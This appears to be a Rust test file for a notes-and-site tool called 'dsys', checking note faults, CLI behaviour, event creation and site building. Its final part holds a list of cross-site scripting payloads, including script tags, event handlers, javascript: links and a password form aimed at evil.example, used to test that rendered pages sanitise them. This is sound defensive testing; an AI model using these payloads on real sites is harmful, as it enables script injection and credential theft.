//! The notes: what the shipped book says is so, and what is not so is found where it stands.
//!
//! Each `tests/bad-notes/NAME.txt` is a library with faults, its files under lines such as `--
//! notes/case.md --`; `NAME.err` is what `dsys notes check` says of it. `UPDATE_GOLDENS=1 cargo
//! test --test notes` writes those anew.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::LazyLock;

use dsys::library::{Clash, Library};
use dsys::notes::check::{Checked, check};
use dsys::notes::site::{self, Files, Settings};
use dsys::notes::{Book, Kind};
use dsys::problems::SHIPPED;
use dsys::stage::site::SitePlayer;

const DSYS: &str = env!("CARGO_BIN_EXE_dsys");

fn here(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

fn dsys(args: &[&str]) -> Output {
    let mut command = Command::new(DSYS);
    command.args(args).env_remove("NO_COLOR").env_remove("CLICOLOR_FORCE").stdin(Stdio::null());
    command.output().unwrap()
}

fn stdout(output: &Output) -> &str {
    std::str::from_utf8(&output.stdout).unwrap()
}

fn stderr(output: &Output) -> &str {
    std::str::from_utf8(&output.stderr).unwrap()
}

fn checked(library: &Library) -> Checked {
    check(library, &|_, _| ())
}

fn drawn(checked: &Checked) -> String {
    let faults: Vec<String> = checked.faults.iter().map(|fault| fault.draw(false)).collect();
    faults.join("\n\n")
}

/// A folder with the files of a text that holds several, and a note that links to each of its
/// notes.
fn folder(text: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let mut files: BTreeMap<&str, String> = BTreeMap::new();
    let mut name = "";
    for line in text.split_inclusive('\n') {
        match line.strip_prefix("-- ").and_then(|line| line.trim_end().strip_suffix(" --")) {
            Some(file) => {
                name = file;
                files.insert(name, String::new());
            }
            None => files.get_mut(name).unwrap().push_str(line),
        }
    }
    let is_linked = files.remove("unlinked").is_none();
    let links: String = files
        .keys()
        .filter_map(|file| file.strip_prefix("notes/").filter(|_| is_linked))
        .filter(|file| file.ends_with(".md"))
        .map(|file| format!("- [{file}]({file})\n"))
        .collect();
    let start = format!("+++\ntitle = \"Start\"\nkind = \"about\"\nsummary = \"Links.\"\n+++\n\n# Start\n\n{links}");
    files.insert("notes/start.md", start);
    for (file, text) in files {
        let path = folder.path().join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    folder
}

fn library(folder: &tempfile::TempDir) -> Library {
    Library::shipped().with_folder(folder.path(), Clash::Refuse).unwrap()
}

#[test]
fn what_the_shipped_book_says_is_so() {
    let checked = checked(&Library::shipped());
    assert!(checked.faults.is_empty(), "{}", drawn(&checked));
    let notes = Book::read(&Library::shipped()).notes.len();
    assert!(checked.notes == notes && checked.claims > 0 && checked.runs > 0, "{checked:?}");
}

#[test]
fn every_problem_has_its_note() {
    let library = Library::shipped();
    let book = Book::read(&library);
    for problem in SHIPPED.problems {
        let note = book.at(&format!("notes/problems/{}.md", problem.name));
        assert!(note.is_some_and(|note| note.front.kind == Kind::Problem), "{} has no note", problem.name);
    }
}

/// The number that the next event of a library gets, as the program says it.
fn next_number(library: &Library) -> u32 {
    dsys::notes::event::next_number(&Book::read(library))
}

#[test]
fn faults_are_found_where_they_stand() {
    let mut cases: Vec<PathBuf> =
        fs::read_dir(here("tests/bad-notes")).unwrap().map(|entry| entry.unwrap().path()).collect();
    cases.sort();
    let cases: Vec<PathBuf> = cases.into_iter().filter(|path| path.extension().is_some_and(|e| e == "txt")).collect();
    assert!(!cases.is_empty());
    let mut wrong = Vec::new();
    for case in cases {
        let folder = folder(&fs::read_to_string(&case).unwrap());
        let checked = checked(&library(&folder));
        let text = drawn(&checked).replace(folder.path().to_str().unwrap(), "DIR") + "\n";
        assert!(!checked.faults.is_empty(), "{}: nothing was found", case.display());
        let golden = case.with_extension("err");
        if std::env::var_os("UPDATE_GOLDENS").is_some() {
            fs::write(&golden, &text).unwrap();
        }
        if fs::read_to_string(&golden).unwrap_or_default() != text {
            wrong.push(format!("{}:\n{text}", golden.display()));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_false_note_is_exit_code_1_and_all_faults_are_told() {
    let folder = folder(&fs::read_to_string(here("tests/bad-notes/many-at-once.txt")).unwrap());
    let path = folder.path().to_str().unwrap();
    for args in [&["notes", "check", path][..], &["--library", path, "notes", "check"]] {
        let output = dsys(args);
        assert_eq!((output.status.code(), stdout(&output)), (Some(1), ""), "{}", stderr(&output));
        assert!(stderr(&output).contains("5 faults in "), "{}", stderr(&output));
        assert!(stderr(&output).contains("notes/case.md:9:"), "{}", stderr(&output));
    }
    let output = dsys(&["notes", "check"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).starts_with("All good: "), "{}", stdout(&output));
}

const MINE: &str = "-- notes/ours.md --
+++
title = \"Ours\"
kind = \"topic\"
summary = \"Our own.\"
+++

# Ours

[Mine](../scenarios/two-generals/mine.toml), [changed](../scenarios/two-generals/mine.toml?seed=9),
[yours](../scenarios/two-generals/last-messenger.toml) and [CAP](topics/cap.md).

```dsys
$ dsys run mine
messages = 4
```
-- scenarios/two-generals/mine.toml --
title = \"Mine: four messages\"
problem = \"two-generals\"
protocol = \"ack-chain\"
nodes = [\"alice\", \"bob\"]
[params]
acks = 3
";

#[test]
fn a_folder_of_ones_own_works_everywhere() {
    let folder = folder(MINE);
    let path = folder.path().to_str().unwrap();
    let says = |args: &[&str], expect: &str| {
        let output = dsys(&[&["--library", path], args].concat());
        assert_eq!(output.status.code(), Some(0), "{args:?}: {}", stderr(&output));
        assert!(stdout(&output).contains(expect), "{args:?}: {}", stdout(&output));
    };
    says(&["run", "mine"], "Mine: four messages");
    says(&["run", "mine"], &format!("This run again: dsys run mine --library {path} --seed 1"));
    says(&["show", "two-generals/mine"], "acks = 3");
    says(&["sweep", "mine", "--runs", "5", "--over", "network.loss=0.1"], "Mine: four messages");
    says(&["search", "mine", "--may", "lose", "--at-most", "1"], "losing one message is enough");
    says(&["list"], "Mine: four messages");
    says(&["list", "--format", "json"], "\"mine\"");
    says(&["notes"], "Our own.");
    says(&["notes", "ours"], "dsys run mine --seed 9");
    says(&["notes", "check"], "All good: ");
    says(&["notes", "cap"], "What people argue about");
    let without = dsys(&["run", "mine"]);
    assert_eq!(without.status.code(), Some(2), "{}", stdout(&without));
}

#[test]
fn a_name_that_several_notes_have_is_not_taken_for_one_of_them() {
    let text =
        "-- notes/two-generals.md --\n+++\ntitle = \"Ours\"\nkind = \"guide\"\nsummary = \"Ours.\"\n+++\n\n# Ours\n";
    let folder = folder(text);
    let read = |name: &str| dsys(&["--library", folder.path().to_str().unwrap(), "notes", name]);
    let output = read("two-generals");
    assert_eq!((output.status.code(), stdout(&output)), (Some(2), ""));
    let says = "`two-generals` is a note of several folders: write `problems/two-generals` or `notes/two-generals`";
    assert!(stderr(&output).contains(says), "{}", stderr(&output));
    assert!(stdout(&read("notes/two-generals")).starts_with("Ours"));
    assert!(stdout(&read("problems/two-generals")).starts_with("The two generals"));
    // What is printed is what is found.
    assert!(stdout(&read("start")).contains("dsys notes notes/two-generals"), "{}", stdout(&read("start")));
}

#[test]
fn a_library_of_ones_own_begins_with_a_note_of_its_own() {
    let note = |kind: &str| {
        format!("-- notes/mine.md --\n+++\ntitle = \"Mine\"\nkind = \"{kind}\"\nsummary = \"Mine.\"\n+++\n\n# Mine\n")
    };
    let check = |kind: &str, expect: &str| {
        let folder = folder(&format!("-- unlinked --\n{}", note(kind)));
        fs::remove_file(folder.path().join("notes/start.md")).unwrap();
        let output = dsys(&["notes", "check", folder.path().to_str().unwrap()]);
        let said = format!("{}{}", stdout(&output), stderr(&output));
        assert!(said.contains(expect), "{said}");
    };
    check("about", "All good: 1 note, 0 links, 0 claims, 0 runs.");
    check("guide", "this note is not found by following links");
}

#[test]
fn a_name_that_clashes_is_refused_unless_it_is_meant() {
    let text = "-- scenarios/two-generals/last-messenger.toml --\ntitle = \"Another\"\nproblem = \"two-generals\"\n\
                protocol = \"ack-chain\"\nnodes = [\"alice\", \"bob\"]\n";
    let folder = folder(text);
    let path = folder.path().to_str().unwrap();
    for command in [&["run", "last-messenger"][..], &["list"], &["notes"], &[]] {
        let output = dsys(&[&["--library", path], command].concat());
        assert_eq!((output.status.code(), stdout(&output)), (Some(2), ""));
        assert!(stderr(&output).contains("has the name of a file that ships"), "{}", stderr(&output));
    }
    let output = dsys(&["--library", path, "--override", "run", "last-messenger"]);
    assert!(stdout(&output).contains("Another"), "{}", stderr(&output));
    let output = dsys(&["--library", "/no/such/folder", "list"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("there is no folder `/no/such/folder`"));
}

#[test]
fn the_next_event_is_written_once_and_on_a_day_that_exists() {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir_all(folder.path().join("notes")).unwrap();
    let path = folder.path().to_str().unwrap();
    let new = |more: &[&str]| dsys(&[&["notes", "new-event", "--into", path], more].concat());
    let refused = |output: Output, says: &str| {
        assert_eq!((output.status.code(), stdout(&output)), (Some(2), ""), "{}", stderr(&output));
        assert!(stderr(&output).contains(says), "{}", stderr(&output));
    };
    refused(new(&["--date", "2026-02-30"]), "there is no day `2026-02-30`");
    refused(new(&["--date", "soon"]), "`soon` is not a day");
    // Days far ahead, and numbers that follow those of the events that ship by now.
    let next = next_number(&Library::shipped());
    let file = |number: u32| folder.path().join(format!("notes/events/{number:02}.md"));
    refused(new(&["--date", "2096-12-08", "--number", "3"]), "event 3 is `notes/events/03.md`");
    let says = format!("event {next} would be on 2020-12-08, before the one that precedes it");
    refused(new(&["--date", "2020-12-08"]), &says);
    refused(new(&["--date", "2096-12-08", "--title", ""]), "the title is no text");
    let written = new(&["--date", "2096-12-08", "--place", "live", "--title", "Chat \"04\" & <co>"]);
    assert_eq!(written.status.code(), Some(0), "{}", stderr(&written));
    let text = fs::read_to_string(file(next)).unwrap();
    assert!(text.contains("date     = 2096-12-08") && text.contains("title    = \"Chat \\\"04\\\" & <co>\""), "{text}");
    let output = dsys(&["notes", "check", path]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    // The events that the folder has by now count, whether it is the library or not.
    refused(new(&["--date", "2096-12-08", "--number", &next.to_string()]), &format!("event {next} is `"));
    refused(new(&["--date", "2096-12-08"]), "there is an event on 2096-12-08 already");
    let after = (next + 1).to_string();
    let says = format!("event {after} would be on 2096-01-12, before the one");
    refused(new(&["--date", "2096-01-12", "--number", &after]), &says);
    let written = new(&["--date", "2097-01-12"]);
    assert_eq!(written.status.code(), Some(0), "{}", stderr(&written));
    assert!(file(next + 1).is_file());
    let written = dsys(&["--library", path, "notes", "new-event", "--date", "2097-02-09"]);
    assert_eq!(written.status.code(), Some(0), "{}", stderr(&written));
    assert!(file(next + 2).is_file());
    let elsewhere = folder.path().join("q.md");
    let written = dsys(&["notes", "new-event", "--date", "2097-01-12", "-o", elsewhere.to_str().unwrap()]);
    assert!(
        stderr(&written).ends_with("`dsys notes check DIR` reads it once it is in `DIR/notes`.\n"),
        "{}",
        stderr(&written)
    );
    refused(
        dsys(&["notes", "new-event", "--date", "2097-01-12", "--into", "/no/such"]),
        "there is no folder `/no/such/notes`",
    );
    assert_eq!(fs::read_to_string(file(next)).unwrap(), text);
}

/// The shipped book's site, built once for all tests that only look at it.
fn shipped_site() -> &'static Files {
    static SITE: LazyLock<Files> = LazyLock::new(|| built(&Library::shipped(), Some("https://example.org/a&b")));
    &SITE
}

fn built(library: &Library, url: Option<&str>) -> Files {
    site::build(library, &Settings::new(url).unwrap(), Some(&SitePlayer { library, engine: None }), &|_, _| ()).unwrap()
}

fn text<'f>(files: &'f Files, path: &str) -> &'f str {
    std::str::from_utf8(files.get(path).unwrap_or_else(|| panic!("there is no {path}"))).unwrap()
}

/// The values of an attribute in a page.
fn values<'p>(page: &'p str, attribute: &str) -> Vec<&'p str> {
    let lead = format!(" {attribute}=\"");
    page.match_indices(&lead).filter_map(|(at, _)| page[at + lead.len()..].split('"').next()).collect()
}

/// The path that a relative link on a page leads to.
fn place(page: &str, link: &str) -> String {
    let mut parts: Vec<&str> = page.split('/').collect();
    parts.pop();
    for part in link.split('/') {
        match part {
            ".." => drop(parts.pop().unwrap_or_else(|| panic!("{page}: {link} leaves the site"))),
            part => parts.push(part),
        }
    }
    parts.join("/")
}

#[test]
fn the_site_is_the_same_twice_and_every_link_in_it_leads_somewhere() {
    let files = shipped_site();
    assert!(*files == built(&Library::shipped(), Some("https://example.org/a&b/")), "two builds differ");
    for (path, bytes) in files.iter().filter(|(path, _)| path.ends_with(".html")) {
        let page = std::str::from_utf8(bytes).unwrap();
        for link in values(page, "href").into_iter().chain(values(page, "src")) {
            let link = link.replace("&amp;", "&");
            if link.starts_with("https://") {
                continue;
            }
            let (file, anchor) =
                link.split_once('#').map_or((link.as_str(), None), |(file, anchor)| (file, Some(anchor)));
            let there = if file.is_empty() { path.clone() } else { place(path, file) };
            assert!(files.contains_key(&there), "{path} links to {link}");
            let has_anchor = anchor.is_none_or(|anchor| text(files, &there).contains(&format!("id=\"{anchor}\"")));
            assert!(has_anchor, "{path}: {link} has no such heading");
        }
        for source in values(page, "src") {
            assert!(!source.contains("//"), "{path} loads {source}");
        }
    }
}

#[test]
fn a_run_has_its_page_without_javascript() {
    let files = shipped_site();
    for story in Library::shipped().stories() {
        let page = text(files, &format!("runs/{}.html", story.path())).to_owned();
        let run = dsys(&["run", &story.path(), "--format", "json"]);
        let report: serde_json::Value = serde_json::from_str(stdout(&run)).unwrap();
        for part in ["<svg", "<title id=", "Verdicts", "This run again:", report["trace_hash"].as_str().unwrap()] {
            assert!(page.contains(part), "{}: no {part}", story.path());
        }
        let (_, recorded) = page.split_once("id=\"recorded\">").unwrap();
        let (recorded, _) = recorded.split_once("</script>").unwrap();
        let recorded: serde_json::Value = serde_json::from_str(recorded).unwrap();
        assert_eq!(recorded, report, "{}", story.path());
    }
}

#[test]
fn feed_and_sitemap_are_well_formed_and_absolute() {
    let files = shipped_site();
    let parse = |path| roxmltree::Document::parse(text(files, path)).unwrap_or_else(|error| panic!("{path}: {error}"));
    let feed = parse("feed.xml");
    let entries = feed.descendants().filter(|node| node.has_tag_name(("http://www.w3.org/2005/Atom", "entry")));
    let titles: Vec<&str> = entries
        .filter_map(|entry| entry.children().find(|c| c.has_tag_name(("http://www.w3.org/2005/Atom", "title")))?.text())
        .collect();
    let library = Library::shipped();
    let book = Book::read(&library);
    let events = book.notes.iter().filter(|note| note.front.kind == Kind::Event);
    assert_eq!(titles, events.map(|note| note.front.title.as_str()).collect::<Vec<_>>());
    let sitemap = parse("sitemap.xml");
    let pages = files.keys().filter(|path| path.ends_with(".html") && !path.starts_with("play/")).count();
    let addresses: Vec<&str> =
        sitemap.descendants().filter(|node| node.tag_name().name() == "loc").filter_map(|node| node.text()).collect();
    assert_eq!(addresses.len(), pages);
    assert!(addresses.iter().all(|address| address.starts_with("https://example.org/a&b/")));
}

#[test]
fn a_site_whose_place_is_not_known_has_a_feed_and_no_sitemap() {
    let folder = folder(&fs::read_to_string(here("tests/bad-notes/front-missing.txt")).unwrap());
    let files = built(&Library::empty(SHIPPED).with_folder(folder.path(), Clash::Refuse).unwrap(), None);
    assert!(!files.contains_key("sitemap.xml") && files.contains_key("index.html"));
    let feed = roxmltree::Document::parse(text(&files, "feed.xml"))
        .map(|feed| feed.root_element().tag_name().name() == "feed");
    assert_eq!(feed, Ok(true));
}

#[test]
fn a_site_is_built_again_into_its_own_folder_and_into_no_other() {
    let (folder, site) = (folder(MINE), tempfile::tempdir().unwrap());
    let (path, out) = (folder.path().to_str().unwrap(), site.path().to_str().unwrap());
    let build = || dsys(&["--library", path, "notes", "build", "-o", out]);
    assert_eq!(build().status.code(), Some(0), "{}", stderr(&build()));
    assert!(site.path().join("ours.html").is_file());
    fs::write(site.path().join("kept.txt"), "mine").unwrap();
    fs::rename(folder.path().join("notes/ours.md"), folder.path().join("notes/theirs.md")).unwrap();
    assert_eq!(build().status.code(), Some(0), "{}", stderr(&build()));
    let is_there = |file: &str| site.path().join(file).is_file();
    assert!(!is_there("ours.html") && is_there("theirs.html") && is_there("kept.txt"));
    let other = dsys(&["notes", "build", "-o", path]);
    assert_eq!(other.status.code(), Some(2), "{}", stderr(&other));
    assert!(stderr(&other).contains("holds something else"), "{}", stderr(&other));
}

/// What strangers have tried elsewhere. None of it may come through as HTML.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary>",
    "<details><summary><img src=x onerror=alert(1)></summary>",
    "</article></main><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=data:text/html,x></object>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](https://evil.example/\"onmouseover=alert(1)//)",
    "[x](https://a.b 'x\" onmouseover=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"onerror=alert(1)](x.png)",
    "![x\" onerror=\"alert(1)](https://a.b/x.png)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```dsys\n$ dsys run <script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>",
    "## x\" onmouseover=\"alert(1)",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "- [ ] <script>alert(1)</script>",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://a.b/<script>alert(1)</script>>",
];

/// The tags of a page, each from its `<` to its `>`.
fn tags(page: &str) -> Vec<&str> {
    page.match_indices('<').filter_map(|(at, _)| page[at..].find('>').map(|end| &page[at..=at + end])).collect()
}

#[test]
fn nothing_of_a_strangers_becomes_html() {
    let front = |title: &str| {
        format!(
            "+++\ntitle = '{title}'\nkind = \"event\"\nsummary = '{title}'\ntags = ['{title}']\nplace = '{title}'\nnumber = 9\ndate = 2026-01-01\n+++\n\n"
        )
    };
    let mut files = String::new();
    for (index, payload) in PAYLOADS.iter().enumerate() {
        let title = if payload.contains(['\n', '\'', '\u{1}']) { "x" } else { payload };
        files.push_str(&format!("-- notes/p{index:02}.md --\n{}{payload}\n\nafter\n", front(title)));
        let text = payload.replace(['\\', '"', '\u{1}', '\n'], " ");
        // What is to be tried must be possible: that the title is another.
        let other = format!("--set 'title=x{}'", text.replace('\'', " "));
        files.push_str(&format!(
            "-- scenarios/two-generals/p{index:02}.toml --\ntitle = \"{text}\"\nproblem = \"two-generals\"\nprotocol = \"ack-chain\"\n\
             nodes = [\"alice\", \"bob\"]\n[story]\nsetup = \"{text}\"\nlesson = \"{text}\"\ntry = [\"{other}\"]\n[story.predict]\nask = \"{text}\"\nnone = \"{text}\"\n\
             choices = [{{ say = \"{text}\", when = \"delivered >= 0\" }}, {{ say = \"no\", because = \"{text}\" }}]\n"
        ));
    }
    let folder = folder(&files);
    let library = Library::empty(SHIPPED).with_folder(folder.path(), Clash::Refuse).unwrap();
    let site = built(&library, Some("https://example.org"));
    let own = ["script", "link", "meta", "form", "input", "svg", "style", "iframe", "object", "base", "img"];
    for (path, bytes) in site.iter().filter(|(path, _)| path.ends_with(".html")) {
        let page = std::str::from_utf8(bytes).unwrap();
        for tag in tags(page) {
            let name: String =
                tag[1..].chars().take_while(|c| c.is_ascii_alphanumeric()).collect::<String>().to_lowercase();
            // Attributes are looked for outside of quoted values, where anything may stand.
            let bare: String = tag.split('"').step_by(2).collect();
            let has_handler = bare.split_whitespace().skip(1).any(|word| word.to_lowercase().starts_with("on"));
            assert!(!has_handler, "{path}: {tag}");
            for value in ["href", "src", "data", "action"].iter().flat_map(|name| values(tag, name)) {
                let value = value.to_lowercase();
                let is_bad = ["javascript:", "data:", "vbscript:", "file:", "//"]
                    .iter()
                    .any(|bad| value.trim().starts_with(bad));
                assert!(!is_bad, "{path}: {tag}");
            }
            if own.contains(&name.as_str()) {
                let is_ours = tag.starts_with("<script defer src=\"")
                    && (tag.contains("assets/") || tag.contains("stage/stage.js"))
                    || tag == "<script type=\"application/json\" id=\"recorded\">"
                    || tag.starts_with("<meta charset=")
                    || tag.starts_with("<meta name=\"")
                    || tag.starts_with("<meta http-equiv=\"Content-Security-Policy\"")
                    || tag.starts_with("<link rel=\"")
                    || tag.starts_with("<svg xmlns=")
                    || tag.starts_with("<input type=\"checkbox\"")
                    || path == "search.html"
                        && (tag.starts_with("<form id=\"search\"") || tag.starts_with("<input id=\"words\""));
                assert!(is_ours, "{path}: {tag}");
            }
        }
        let opened = page.matches("<details").count();
        assert_eq!(opened, page.matches("</details>").count(), "{path}");
    }
}
